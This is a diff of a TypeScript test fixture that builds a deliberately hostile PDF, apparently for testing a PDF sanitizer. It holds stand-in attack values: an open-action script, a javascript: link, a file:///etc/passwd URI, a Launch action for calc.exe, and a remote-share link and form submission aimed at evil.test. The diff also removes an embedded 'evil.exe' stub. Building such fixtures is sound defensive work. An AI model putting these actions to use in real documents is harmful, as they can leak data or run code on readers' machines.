@@ -64,7 +64,7 @@ export const paddedPdf = async (size: number): Promise<Buffer> => {
 
 type Parts = Record<string, PDFObject | PDFObject[] | string>;
 
-/** Returns a PDF with everything that acts on opening or on a click, and files inside it. */
+/** Returns a PDF with everything that acts on opening or on a click. */
 export const hostilePdf = (): Promise<Buffer> =>
   pdfOf(['Diplom', 'Second'], (document) => {
     const { context, catalog } = document;
@@ -72,35 +72,29 @@ export const hostilePdf = (): Promise<Buffer> =>
     const action = (S: string, more: Parts = {}) => context.obj({ S, ...more });
     catalog.set(PDFName.of('OpenAction'), context.register(script()));
     catalog.set(PDFName.of('AA'), context.obj({ WC: script() }));
-    const file = context.register(context.stream('MZ evil.exe', { Type: 'EmbeddedFile' }));
-    const spec = context.register(
-      context.obj({ Type: 'Filespec', F: PDFString.of('evil.exe'), EF: context.obj({ F: file }) }),
-    );
     const scripts = context.obj({ Names: [PDFString.of('one'), context.register(script())] });
-    const files = context.obj({ Names: [PDFString.of('evil'), spec] });
-    catalog.set(PDFName.of('Names'), context.obj({ JavaScript: scripts, EmbeddedFiles: files }));
+    catalog.set(PDFName.of('Names'), context.obj({ JavaScript: scripts }));
     const annotation = (Subtype: string, more: Parts) =>
       context.register(context.obj({ Type: 'Annot', Subtype, Rect: [0, 0, 50, 50], ...more }));
     const link = (A: PDFDict) => annotation('Link', { A });
-    document
-      .getPage(0)
-      .node.set(
-        PDFName.of('Annots'),
-        context.obj([
-          link(action('URI', { URI: PDFString.of('https://good.test/') })),
-          link(action('URI', { URI: PDFString.of('javascript:alert(1)') })),
-          link(action('URI', { URI: PDFString.of('file:///etc/passwd') })),
-          link(action('Launch', { F: PDFString.of('calc.exe') })),
-          link(action('GoToR', { F: PDFString.of('\\\\evil.test\\share\\x.pdf') })),
-          link(action('SubmitForm', { F: PDFString.of('https://evil.test/form') })),
-          link(action('Named', { N: 'Print', Next: script() })),
-          link(action('GoTo', { D: [document.getPage(1).ref, PDFName.of('Fit')], Next: script() })),
-          annotation('FileAttachment', { FS: spec }),
-          annotation('RichMedia', { RichMediaContent: context.obj({ Assets: files }) }),
-          annotation('Screen', { AA: context.obj({ PO: script() }) }),
-          annotation('Text', { Contents: PDFString.of('a remark') }),
-        ] as never),
-      );
+    document.getPage(0).node.set(
+      PDFName.of('Annots'),
+      context.obj([
+        link(action('URI', { URI: PDFString.of('https://good.test/') })),
+        link(action('URI', { URI: PDFString.of('javascript:alert(1)') })),
+        link(action('URI', { URI: PDFString.of('file:///etc/passwd') })),
+        link(action('Launch', { F: PDFString.of('calc.exe') })),
+        link(action('GoToR', { F: PDFString.of('\\\\evil.test\\share\\x.pdf') })),
+        link(action('SubmitForm', { F: PDFString.of('https://evil.test/form') })),
+        link(action('Named', { N: 'Print', Next: script() })),
+        link(action('GoTo', { D: [document.getPage(1).ref, PDFName.of('Fit')], Next: script() })),
+        annotation('FileAttachment', {
+          FS: context.obj({ Type: 'Filespec', F: PDFString.of('evil.exe') }),
+        }),
+        annotation('Screen', { AA: context.obj({ PO: script() }) }),
+        annotation('Text', { Contents: PDFString.of('a remark') }),
+      ] as never),
+    );
     document.setTitle('Secret title');
     document.setAuthor('Secret author');
   });
